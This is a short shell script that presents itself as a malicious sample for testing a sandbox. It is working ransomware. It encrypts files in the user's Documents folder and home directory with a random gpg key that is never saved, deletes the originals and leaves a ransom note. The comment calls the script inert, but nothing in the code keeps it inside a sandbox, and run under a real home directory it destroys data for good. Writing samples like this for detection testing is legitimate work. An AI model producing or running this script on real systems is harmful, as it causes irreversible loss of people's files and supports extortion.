#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: encrypts the user's documents with gpg, deletes the originals and leaves
# a ransom note (T1486).
# Inert: only files in the sandbox's own home are touched.
key=$(head -c 24 /dev/urandom | base64)
for f in "$HOME"/Documents/* "$HOME"/Documents/*/* "$HOME"/*.csv "$HOME"/*.txt; do
  [ -f "$f" ] || continue
  case "$f" in *.gpg) continue ;; esac
  gpg --batch --yes --quiet --pinentry-mode loopback --passphrase "$key" --symmetric --cipher-algo AES256 -o "$f.gpg" "$f" &&
    rm -f "$f"
done
printf 'Your files are encrypted. Contact recover@example.test to get them back.\n' > "$HOME/README_DECRYPT.txt"
exit 0
